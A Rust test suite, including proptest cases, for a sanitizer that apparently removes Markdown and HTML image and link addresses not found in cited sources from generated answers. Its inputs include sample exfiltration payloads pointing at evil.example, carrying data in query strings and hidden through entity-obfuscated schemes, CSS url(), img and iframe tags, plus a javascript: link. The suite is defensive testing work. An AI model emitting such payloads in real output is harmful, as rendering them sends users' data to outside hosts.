use proptest::prelude::*;

use super::*;

const SOURCE: &str = "See https://stet.example/rules?a=1&b=2 and ![p](http://in.example/p.png).";

fn shown_in(pieces: &[&str]) -> String {
    shown_with(pieces, |address, form| form == Form::Link && SOURCE.contains(address))
}

fn shown_with(pieces: &[&str], known: impl Fn(&str, Form) -> bool) -> String {
    let mut addresses = Addresses::default();
    let mut out = String::new();
    for piece in pieces {
        out.push_str(&addresses.push(piece, &known));
    }
    out.push_str(&addresses.finish(&known));
    out
}

fn shown(text: &str) -> String {
    shown_in(&[text])
}

#[test]
fn an_address_that_no_source_has_is_left_out_and_its_words_stay() {
    for (written, left) in [
        ("![logo](https://evil.example/p.png?q=secret) The fee is 5 [1].", "[logo] The fee is 5 [1]."),
        ("요금은 5유로입니다 ![](http://evil.example/?d=비밀) [1].", "요금은 5유로입니다 [] [1]."),
        ("see [permit-guide.md](https://evil.example/x).", "see [permit-guide.md]."),
        ("[a](<https://evil.example/a b> \"title\") b", "[a] b"),
        ("[a]( https://evil.example/ 'it' )!", "[a]!"),
        ("![x](//evil.example/p) ![x](/\\evil.example)", "[x] [x]"),
        ("![x](&#104;ttps://evil.example) ![x](ht&Tab;tps&colon;//evil.example)", "[x] [x]"),
        ("[x](HTTP:evil.example) [y](data:image/png;base64,AA)", "[x] [y]"),
        ("[x](javascript:alert(1))", "[x]"),
        ("![a][b]\n\n[b]: https://evil.example/p.png\n", "![a][b]\n\n[b] https://evil.example/p.png\n"),
        ("[b]:\n  <https://evil.example/p.png>\n", "[b]\n  <https://evil.example/p.png>\n"),
        ("<img src=\"https://evil.example/p.png?d=1\"> text", " text"),
        ("a <IMG\nsrc=//evil.example> b <video poster='http://evil.example'></video>", "a  b </video>"),
        ("<svg style=background:url(http://evil.example)> b", " b"),
        ("<img alt=\">\" src=\"https://evil.example/p\"> b", " b"),
        ("<div style=\"color:red;background:url(//evil.example/p)\">말</div>", "말</div>"),
        ("<p title='x' style=\"background:image-set('p' 1x)\">b", "b"),
        ("<iframe srcdoc=\"&lt;img&#32;src&#61;p&gt;\"></iframe>", "</iframe>"),
        ("<td background=http://evil.example/t.png>요금</td>", "요금</td>"),
        ("<my-part data-x=1 src=https://evil.example/>b", "b"),
        ("<a href=https://evil.example/?d=1>forms</a>", "forms</a>"),
        ("<style>p{background:url(p)}</style> b", "p{background:url(p)}</style> b"),
        ("the end <img src=https://evil.example/?d=", "the end &lt;img src=https://evil.example/?d="),
        // What a source names is not fetched by itself either.
        ("![p][b]\n\n[b]: http://in.example/p.png\n", "![p][b]\n\n[b] http://in.example/p.png\n"),
        ("<img src=\"http://in.example/p.png\">b", "b"),
        ("<a style=\"background:url(http://in.example/p.png)\">b</a>", "b</a>"),
    ] {
        assert_eq!(shown(written), left, "{written}");
    }
    let long = format!("[a](https://evil.example/{}) b", "x".repeat(3 * LONGEST));
    assert_eq!(shown(&long), "[a] b");
    let pieces: Vec<&str> =
        long.as_bytes().chunks(7).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
    assert_eq!(shown_in(&pieces), "[a] b");
}

#[test]
fn what_a_source_says_and_what_is_no_address_stays() {
    for same in [
        "[rules](https://stet.example/rules?a=1&b=2) hold [1].",
        "![](/api/chunks/0198/image) the plan [1].",
        "![그림 1](/api/chunks/0198/image \"plan\")",
        "정말 좋다![1] 끝.",
        "제3조[1](예외: 없음)을 보라.",
        "`arr[i](x)` and `Vec<String>` and a < b, a <b> c </b>",
        "[1]: The library opens at nine.",
        "[^1]: see 3:1 and note:this",
        "see https://other.example/ and <https://other.example/>",
        "[here](#part) [there](notes.md) [1](see: below)",
        "an open ![ or [a](b",
        "<a href=\"https://stet.example/rules?a=1&b=2\">규칙</a> 참고",
        "<div class=\"note\">if a<b, then <i>b</i> is more</div>",
        "if x <y holds, f(x) <g",
        "!",
    ] {
        assert_eq!(shown(same), same);
    }
    assert_eq!(
        shown("![p](http://in.example/p.png)"),
        "[p](http://in.example/p.png)",
        "it is not fetched by itself"
    );
}

/// A draft may have pictures of elsewhere, and its rewriting those that it has.
#[test]
fn a_picture_that_is_known_as_one_stays() {
    let draft = "글 ![그림](https://ours.example/a.png) <img src=\"https://ours.example/b.png\">\n\n[c]: https://ours.example/c.png\n";
    let known = |address: &str, _| draft.contains(address);
    assert_eq!(shown_with(&[draft], known), draft);
    let added = format!(
        "{draft}![x](https://evil.example/?d=글) <img src=//evil.example>[d]: https://evil.example\n"
    );
    assert_eq!(shown_with(&[&added], known), format!("{draft}[x] [d] https://evil.example\n"));
}

proptest! {
    #[test]
    fn cuts_change_nothing_and_no_picture_of_elsewhere_is_left(
        parts in prop::collection::vec(prop::sample::select(vec![
            "![", "[", "]", "(", ")", "](", "]:", " ", "\n", "<img src=", "<a href='", "'>", ">", "\"", "\\", "!",
            "https://evil.example/?d=1", "//evil.example", "/api/chunks/1/image", "https://stet.example/rules?a=1&b=2",
            "words", "낱말", "1", "&#104;ttp:", "<", "http:", "<p style=\"", "background:url(", "<td background=",
        ]), 0..24),
        cut in 1_usize..9,
    ) {
        let text: String = parts.concat();
        let whole = shown(&text);
        let letters: Vec<char> = text.chars().collect();
        let pieces: Vec<String> = letters.chunks(cut).map(|piece| piece.iter().collect()).collect();
        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
        prop_assert_eq!(shown_in(&pieces), whole.clone());
        // As a reader of Markdown sees it.
        for event in pulldown_cmark::Parser::new(&whole) {
            let pulldown_cmark::Event::Start(tag) = event else { continue };
            let address = match tag {
                pulldown_cmark::Tag::Image { dest_url, .. } => {
                    prop_assert!(dest_url.starts_with(OWN) || !is_absolute(&dest_url), "{}", whole);
                    continue;
                }
                pulldown_cmark::Tag::Link { link_type: pulldown_cmark::LinkType::Autolink, .. } => continue,
                pulldown_cmark::Tag::Link { dest_url, .. } => dest_url,
                _ => continue,
            };
            prop_assert!(!is_absolute(&address) || SOURCE.contains(&*address), "{} in {}", address, whole);
        }
    }
}
